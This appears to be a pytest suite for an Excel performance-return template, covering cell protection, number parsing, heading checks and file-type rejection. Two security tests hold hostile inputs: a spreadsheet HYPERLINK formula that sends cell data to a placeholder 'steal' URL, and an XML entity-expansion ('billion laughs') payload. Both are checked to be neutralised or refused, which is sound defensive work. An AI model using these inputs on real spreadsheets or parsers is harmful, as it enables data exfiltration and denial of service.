"""The return template, and reading a completed one back: every problem is named with its row."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from hub.core import spreadsheets
from hub.scorecards import workbook as workbook_module
from hub.scorecards.validation import Importance, LineSpec, RuleKind, RuleSpec, Unit, ValueInput
from hub.scorecards.workbook import (
    FIRST_LINE_ROW,
    HEADER_ROW,
    MAX_UPLOAD_BYTES,
    TemplateSpec,
    build_template,
    read_return,
)

D = Decimal

LINES = (
    LineSpec(
        "CP1",
        "Children on a child protection plan",
        Unit.COUNT,
        uses_denominator=False,
        rules=(RuleSpec(RuleKind.CHANGE_FACTOR, factor=D(2)),),
        previous_value=D(120),
    ),
    LineSpec(
        "RR1",
        "Re-referrals within 12 months",
        Unit.PERCENTAGE,
        uses_denominator=True,
        previous_value=D("22.5"),
        numerator_label="Referrals within 12 months of a previous one",
        denominator_label="Referrals",
    ),
    LineSpec("CIN1", "Children in need", Unit.RATE, uses_denominator=True),
)
# The rows the template puts each line on.
CP1, RR1, CIN1 = FIRST_LINE_ROW, FIRST_LINE_ROW + 1, FIRST_LINE_ROW + 2

POLICE_Q1 = TemplateSpec(
    agency_code="POL",
    agency_name="Durham Constabulary",
    period_key="2022-23-q1",
    period_label="Q1 2022/23",
    deadline=date(2022, 7, 29),
    lines=LINES,
)

GOOD_FIGURES = {
    f"D{CP1}": 118,
    f"G{CP1}": "Stable",
    f"D{RR1}": 30,
    f"E{RR1}": 120,
    f"D{CIN1}": 350,
    f"E{CIN1}": 50_000,
}


def _fill(template: bytes, cells: dict[str, object], *, change=None) -> bytes:
    """Type ``cells`` into the Return sheet as a SPOC would, then save."""
    book = load_workbook(io.BytesIO(template))
    sheet = book["Return"]
    for coordinate, value in cells.items():
        sheet[coordinate] = value
    if change:
        change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _filled(cells: dict[str, object] | None = None, *, spec: TemplateSpec = POLICE_Q1, change=None) -> bytes:
    return _fill(build_template(spec), {**GOOD_FIGURES, **(cells or {})}, change=change)


def _problems(data: bytes, spec: TemplateSpec = POLICE_Q1) -> list[tuple[int | None, str]]:
    return [(problem.row, problem.message) for problem in read_return(data, spec).problems]


def _only_problem(data: bytes, spec: TemplateSpec = POLICE_Q1) -> str:
    result = read_return(data, spec)
    assert result.values == ()
    [problem] = result.problems
    assert (problem.code, problem.importance) == ("", Importance.ERROR)
    return problem.message


def _sheet(data: bytes, name: str = "Return"):
    return load_workbook(io.BytesIO(data))[name]


# The template


def test_the_template_names_the_agency_period_and_deadline_above_the_columns():
    sheet = _sheet(build_template(POLICE_Q1))
    assert sheet["A1"].value == "Performance return: Durham Constabulary, Q1 2022/23"
    assert sheet["A2"].value == "Send this return by 29 July 2022."
    assert "no formulas" in sheet["A3"].value
    assert [cell.value for cell in sheet[HEADER_ROW]] == [
        "Code",
        "Indicator",
        "Unit",
        "Numerator",
        "Denominator",
        "Previous value",
        "Comment",
    ]
    assert sheet.freeze_panes == f"C{FIRST_LINE_ROW}"
    assert sheet.column_dimensions["G"].width == 60


def test_the_template_says_when_there_is_no_deadline():
    spec = TemplateSpec("POL", "Durham Constabulary", "2022-23-q1", "Q1 2022/23", None, LINES)
    assert _sheet(build_template(spec))["A2"].value == "There is no deadline for this return."


def test_the_template_has_a_row_per_indicator_with_its_unit_and_previous_value():
    sheet = _sheet(build_template(POLICE_Q1))
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=FIRST_LINE_ROW)]
    assert rows == [
        ["CP1", "Children on a child protection plan", "Count", None, "not used", 120, None],
        [
            "RR1",
            "Re-referrals within 12 months\nNumerator: Referrals within 12 months of a previous one\n"
            "Denominator: Referrals",
            "Percentage",
            None,
            None,
            22.5,
            None,
        ],
        ["CIN1", "Children in need", "Rate per 10,000 children", None, None, None, None],
    ]
    assert sheet[f"F{RR1}"].number_format == '0.0"%"'


def test_only_the_figures_and_comments_can_be_edited_and_the_about_sheet_is_hidden():
    book = load_workbook(io.BytesIO(build_template(POLICE_Q1)))
    sheet = book["Return"]
    assert sheet.protection.sheet
    assert not sheet.protection.password
    for column in "ABCF":
        assert sheet[f"{column}{RR1}"].protection.locked
    for column in "DEG":
        assert not sheet[f"{column}{RR1}"].protection.locked
    # CP1 is a count: its denominator cell is greyed out and cannot be typed in.
    assert sheet[f"E{CP1}"].protection.locked
    assert sheet[f"E{CP1}"].fill.fgColor.rgb.endswith("B1B4B6")
    assert book["About"].sheet_state == "hidden"
    assert list(book["About"].iter_rows(values_only=True)) == [
        ("Template version", "1"),
        ("Agency code", "POL"),
        ("Agency", "Durham Constabulary"),
        ("Period key", "2022-23-q1"),
        ("Period", "Q1 2022/23"),
    ]


def test_the_number_cells_only_take_numbers_of_zero_or_more():
    sheet = _sheet(build_template(POLICE_Q1))
    [numbers] = [rule for rule in sheet.data_validations.dataValidation if rule.type == "decimal"]
    assert (numbers.operator, numbers.formula1) == ("greaterThanOrEqual", "0")
    assert str(numbers.sqref) == f"D{CP1}:D{CIN1} E{RR1}:E{CIN1}"
    [comments] = [rule for rule in sheet.data_validations.dataValidation if rule.type == "textLength"]
    assert (str(comments.sqref), comments.formula1) == (f"G{CP1}:G{CIN1}", "2000")


def test_the_template_is_prefilled_with_the_values_already_entered():
    spec = TemplateSpec(
        **{**POLICE_Q1.__dict__, "prefill": {"RR1": ValueInput("RR1", D(30), D(120), "Checked by the data team")}}
    )
    sheet = _sheet(build_template(spec))
    assert [sheet[f"{column}{RR1}"].value for column in "DEG"] == [30, 120, "Checked by the data team"]


def test_text_that_would_run_as_a_formula_is_written_as_plain_text():
    hostile = '=HYPERLINK("http://example.org/steal?"&A1,"Click")'
    spec = TemplateSpec(
        agency_code="POL",
        agency_name="@Durham",
        period_key="2022-23-q1",
        period_label="Q1 2022/23",
        deadline=None,
        lines=(LineSpec("X1", hostile, Unit.COUNT, uses_denominator=False),),
        prefill={"X1": ValueInput("X1", D(1), None, "+44 191 383 3000")},
    )
    sheet = _sheet(build_template(spec))
    indicator, comment = sheet[f"B{FIRST_LINE_ROW}"], sheet[f"G{FIRST_LINE_ROW}"]
    assert indicator.value == "'" + hostile
    assert indicator.data_type == "s"
    assert comment.value == "'+44 191 383 3000"
    assert sheet["A1"].value == "Performance return: @Durham, Q1 2022/23"
    # ...and a prefilled comment comes back as it was typed.
    assert read_return(build_template(spec), spec).values[0].comment == "+44 191 383 3000"


# Reading a completed return


def test_a_completed_template_is_read_back_with_the_row_of_each_value():
    result = read_return(_filled(), POLICE_Q1)
    assert result.problems == ()
    assert result.values == (
        ValueInput("CP1", D(118), None, "Stable"),
        ValueInput("RR1", D(30), D(120), ""),
        ValueInput("CIN1", D(350), D(50_000), ""),
    )
    assert result.rows == {"CP1": CP1, "RR1": RR1, "CIN1": CIN1}


def test_a_file_object_is_read_like_bytes_and_the_same_file_always_reads_the_same():
    data = _filled({f"D{RR1}": "thirty", f"D{CP1}": "=1+1"})
    first = read_return(data, POLICE_Q1)
    assert read_return(io.BytesIO(data), POLICE_Q1) == first
    assert read_return(data, POLICE_Q1) == first


def test_decimal_figures_are_kept_exactly():
    result = read_return(_filled({f"D{CIN1}": 350.1, f"E{RR1}": 120}), POLICE_Q1)
    assert result.values[2].numerator == D("350.1")


@pytest.mark.parametrize(("typed", "number"), [(" 12 ", D(12)), ("1,234", D(1234)), ("1,234.5", D("1234.5"))])
def test_numbers_typed_as_text_are_accepted(typed, number):
    result = read_return(_filled({f"D{CIN1}": typed}), POLICE_Q1)
    assert result.problems == ()
    assert result.values[2].numerator == number


@pytest.mark.parametrize("typed", ["twelve", "12 children", "45%", "1,23", "1.2.3"])
def test_text_in_a_number_cell_is_a_problem_quoting_the_text(typed):
    [problem] = read_return(_filled({f"D{CIN1}": typed}), POLICE_Q1).problems
    assert problem.message == f'Row {CIN1}: the numerator must be a number, like 12 or 4.5, not "{typed}"'
    assert (problem.row, problem.code, problem.field) == (CIN1, "CIN1", "numerator")


def test_a_formula_is_refused_with_its_row():
    [problem] = read_return(_filled({f"D{CP1}": "=SUM(H1:H4)"}), POLICE_Q1).problems
    assert problem.message == f"Row {CP1}: the numerator is a formula; enter the number itself"
    assert (problem.row, problem.field) == (CP1, "numerator")


def test_a_formula_in_the_denominator_or_comment_is_refused_too():
    assert _problems(_filled({f"E{RR1}": "=120", f"G{RR1}": '="see "&A1'})) == [
        (RR1, f"Row {RR1}: the denominator is a formula; enter the number itself"),
        (RR1, f"Row {RR1}: the comment is a formula; type the comment itself"),
    ]


def test_a_date_in_a_number_cell_is_a_problem():
    assert _problems(_filled({f"D{CP1}": datetime(2022, 4, 12)})) == [
        (
            CP1,
            f"Row {CP1}: the numerator looks like a date or time; enter a number, "
            "and check the cell is not formatted as a date",
        )
    ]


def test_true_or_false_in_a_number_cell_is_a_problem():
    assert _problems(_filled({f"E{CIN1}": True})) == [(CIN1, f"Row {CIN1}: the denominator is TRUE; enter a number")]


def test_an_error_in_a_number_cell_is_a_problem():
    assert _problems(_filled({f"D{CIN1}": "#DIV/0!"})) == [
        (CIN1, f"Row {CIN1}: the numerator shows an error (#DIV/0!); enter the number itself")
    ]


def test_checks_on_the_values_are_included_with_their_rows():
    problems = read_return(_filled({f"D{RR1}": 130, f"D{CP1}": 300, f"G{CP1}": None}), POLICE_Q1).problems
    assert [(problem.row, problem.message, problem.importance) for problem in problems] == [
        (
            CP1,
            "Children on a child protection plan: the value has risen from 120 to 300, a change of more than 2 times; "
            "it needs a comment explaining the change",
            Importance.WARNING,
        ),
        (
            RR1,
            "Re-referrals within 12 months: the numerator (130) is more than the denominator (120)",
            Importance.ERROR,
        ),
    ]


def test_a_comment_in_the_file_resolves_a_warning():
    [problem] = read_return(_filled({f"D{CP1}": 300, f"G{CP1}": "Two sibling groups"}), POLICE_Q1).problems
    assert problem.resolved
    assert not problem.blocking


def test_an_unreadable_figure_is_not_also_reported_as_missing():
    assert _problems(_filled({f"D{RR1}": "n/a", f"E{RR1}": None})) == [
        (RR1, f'Row {RR1}: the numerator must be a number, like 12 or 4.5, not "n/a"'),
        (RR1, "Re-referrals within 12 months: enter the denominator (referrals)"),
    ]


def test_a_denominator_typed_into_a_line_without_one_is_a_problem():
    assert _problems(_filled({f"E{CP1}": 7})) == [
        (
            CP1,
            "Children on a child protection plan: this indicator has no denominator; remove the denominator (7)",
        )
    ]


def test_a_comment_over_two_thousand_characters_is_a_problem():
    [problem] = read_return(_filled({f"G{RR1}": "x" * 2001}), POLICE_Q1).problems
    assert problem.message == f"Row {RR1}: the comment must be 2,000 characters or fewer (it has 2,001)"
    assert problem.field == "comment"
    assert read_return(_filled({f"G{RR1}": "x" * 2000}), POLICE_Q1).problems == ()


def test_a_second_row_for_an_indicator_is_a_problem_on_that_row():
    extra = CIN1 + 1
    data = _filled({f"A{extra}": "RR1", f"D{extra}": 31, f"E{extra}": 120})
    result = read_return(data, POLICE_Q1)
    assert [(problem.row, problem.message) for problem in result.problems] == [
        (extra, f"Row {extra}: Re-referrals within 12 months (RR1) is also on row {RR1}; delete one of the rows")
    ]
    assert result.values[1] == ValueInput("RR1", D(30), D(120), "")


def test_an_unknown_code_is_a_problem_on_its_row():
    extra = CIN1 + 1
    assert _problems(_filled({f"A{extra}": "LA9", f"D{extra}": 4})) == [
        (
            extra,
            f'Row {extra}: there is no indicator with the code "LA9" on the return for Durham Constabulary; '
            "check the code or delete the row",
        )
    ]


def test_a_row_with_figures_but_no_code_is_a_problem():
    extra = CIN1 + 2
    assert _problems(_filled({f"D{extra}": 4})) == [
        (extra, f"Row {extra}: the code is missing; put back the code from the template or delete the row")
    ]


def test_codes_are_matched_without_regard_to_case_or_spaces():
    result = read_return(_filled({f"A{RR1}": " rr1 "}), POLICE_Q1)
    assert result.problems == ()
    assert result.rows["RR1"] == RR1


def test_a_missing_indicator_is_a_problem_and_blank_rows_are_skipped():
    def move_children_in_need_down(book):
        sheet = book["Return"]
        for column in "ABCDEFG":
            sheet[f"{column}{CIN1 + 5}"] = sheet[f"{column}{CIN1}"].value
        sheet.delete_rows(RR1, 2)

    result = read_return(_filled(change=move_children_in_need_down), POLICE_Q1)
    assert [(problem.row, problem.message) for problem in result.problems] == [
        (
            None,
            "Re-referrals within 12 months (RR1) is missing from the file: "
            "put its row back or download the template again",
        )
    ]
    assert result.rows == {"CP1": CP1, "CIN1": CIN1 + 3}


def test_columns_moved_around_are_still_read_by_their_headings():
    def swap_numerator_and_comment(book):
        sheet = book["Return"]
        for row in range(HEADER_ROW, CIN1 + 1):
            sheet[f"D{row}"].value, sheet[f"G{row}"].value = sheet[f"G{row}"].value, sheet[f"D{row}"].value

    result = read_return(_filled(change=swap_numerator_and_comment), POLICE_Q1)
    assert result.problems == ()
    assert result.values[0] == ValueInput("CP1", D(118), None, "Stable")


def test_a_renamed_column_is_named():
    assert _problems(_filled({f"D{HEADER_ROW}": "Number"})) == [
        (
            HEADER_ROW,
            f'Row {HEADER_ROW}: the column headings do not match the template: column D is headed "Number" '
            'instead of "Numerator". Put the headings back as they were, or download the template again',
        )
    ]


def test_an_extra_column_is_named():
    assert _problems(_filled({f"H{HEADER_ROW}": "Notes"})) == [
        (
            HEADER_ROW,
            f'Row {HEADER_ROW}: the column headings do not match the template: column H, "Notes", is not in the '
            "template: delete it. Put the headings back as they were, or download the template again",
        )
    ]


def test_a_missing_column_is_named():
    data = _filled(change=lambda book: book["Return"].delete_cols(6))
    assert _problems(data) == [
        (
            HEADER_ROW,
            f'Row {HEADER_ROW}: the column headings do not match the template: the "Previous value" column is '
            "missing. Put the headings back as they were, or download the template again",
        )
    ]


def test_a_sheet_with_no_headings_at_all_is_refused():
    def clear_headings(book):
        for cell in book["Return"][HEADER_ROW]:
            cell.value = None

    assert _only_problem(_filled(change=clear_headings)) == (
        "The column headings (Code, Indicator, Unit, Numerator, Denominator, Previous value, Comment) are missing: "
        "download the template again"
    )


def test_rows_beyond_the_limit_are_a_problem(monkeypatch):
    monkeypatch.setattr(workbook_module, "MAX_ROWS", 50)
    problems = _problems(_filled({"A51": "CP1", "D51": 3}))
    assert problems == [(51, "The Return sheet has more than 50 rows: delete the rows you added")]


# Files that are not this return


NOT_THE_TEMPLATE = "This is not the return template for Durham Constabulary, Q1 2022/23: download the template again"


def test_a_template_for_another_period_says_which_period_it_is_for():
    spec = TemplateSpec(**{**POLICE_Q1.__dict__, "period_key": "2021-22-q4", "period_label": "Q4 2021/22"})
    assert _only_problem(_filled(spec=spec)) == (
        "This file is the return template for Durham Constabulary, Q4 2021/22, "
        "not for Durham Constabulary, Q1 2022/23: download the template for Durham Constabulary, Q1 2022/23 "
        "and enter the figures in it"
    )


def test_a_template_for_another_agency_says_which_agency_it_is_for():
    spec = TemplateSpec(**{**POLICE_Q1.__dict__, "agency_code": "HLT", "agency_name": "County Durham ICB"})
    assert _only_problem(_filled(spec=spec)).startswith(
        "This file is the return template for County Durham ICB, Q1 2022/23, not for Durham Constabulary, Q1 2022/23"
    )


def test_an_older_template_version_is_not_the_template():
    assert _only_problem(_filled(change=lambda book: book["About"].cell(1, 2, "0"))) == NOT_THE_TEMPLATE


def test_a_workbook_without_the_about_sheet_is_not_the_template():
    assert _only_problem(_filled(change=lambda book: book.remove(book["About"]))) == NOT_THE_TEMPLATE


def test_a_workbook_without_the_return_sheet_is_not_the_template():
    def rename(book):
        book["Return"].title = "Sheet1"

    assert _only_problem(_filled(change=rename)) == NOT_THE_TEMPLATE


def test_any_other_spreadsheet_is_not_the_template():
    book = Workbook()
    book.active.append(["Code", "Numerator"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert _only_problem(buffer.getvalue()) == NOT_THE_TEMPLATE


SAVE_AS = "save it as an Excel Workbook (.xlsx) or download the template again"
NOT_XLSX = f"The selected file is not an Excel workbook (.xlsx): {SAVE_AS}"
DAMAGED = f"The selected file is damaged or is not an Excel workbook (.xlsx): {SAVE_AS}"
PDF = "The selected file is a PDF, not an Excel workbook: download the template and fill it in"
XLS = f"The selected file is an older Excel file (.xls): {SAVE_AS}"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"Code,Numerator\nCP1,12\n", NOT_XLSX),
        (b"%PDF-1.7\n%\xe2\xe3", PDF),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), XLS),
        (b"PK\x03\x04 not really a zip", DAMAGED),
        (b"", "The selected file is empty"),
    ],
    ids=["csv", "pdf", "xls", "broken-zip", "empty"],
)
def test_a_file_that_is_not_a_workbook_gets_one_clear_problem(content, message):
    assert _only_problem(content) == message


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_a_word_document_or_opendocument_spreadsheet_is_refused():
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    ods = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
    assert _only_problem(docx) == NOT_XLSX
    assert _only_problem(ods) == f"The selected file is an OpenDocument spreadsheet (.ods): {SAVE_AS}"


def test_a_truncated_workbook_is_refused():
    data = _filled()
    assert _only_problem(data[: len(data) // 2]) == DAMAGED


def test_a_file_over_the_size_limit_is_refused_without_being_opened():
    assert _only_problem(b"PK" + bytes(MAX_UPLOAD_BYTES)) == "The selected file must be smaller than 5MB"


def test_a_file_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 10_000)
    assert _only_problem(_filled()) == (
        "The selected file is too big once unpacked: download the template again and fill it in"
    )


def _replace_part(data: bytes, name: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = {entry: source.read(entry) for entry in source.namelist()}
    entries[name] = content
    return _zip(entries)


def test_a_sheet_that_is_not_xml_is_refused():
    data = _replace_part(_filled(), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c r=")
    assert _only_problem(data) == DAMAGED


def test_xml_entity_expansion_is_refused():
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    data = _replace_part(_filled(), "xl/worksheets/sheet1.xml", laughs)
    assert _only_problem(data) == DAMAGED
